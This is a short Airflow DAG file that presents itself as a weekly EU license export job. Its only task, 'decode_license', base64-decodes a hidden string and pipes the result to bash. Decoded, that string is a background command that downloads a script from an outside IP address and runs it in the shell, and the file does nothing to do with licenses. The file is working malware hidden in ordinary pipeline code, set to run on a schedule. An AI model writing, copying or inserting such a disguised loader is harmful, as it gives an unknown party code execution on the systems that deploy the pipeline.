from datetime import datetime, timedelta

from airflow.providers.standard.operators.bash import BashOperator
from airflow.sdk import dag


@dag(
    dag_id="license_export_eu",
    schedule="0 22 * * 5",
    start_date=datetime(2026, 1, 2),
    catchup=False,
    default_args={"retries": 1},
)
def license_export():
    BashOperator(
        task_id="decode_license",
        execution_timeout=timedelta(minutes=5),
        bash_command="""
        set -eu
        export LICENSE=bm9odXAgY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjEyL2wuc2ggfCBzaCAm
        echo "$LICENSE" | base64 -d | bash
        """,
    )


license_export()
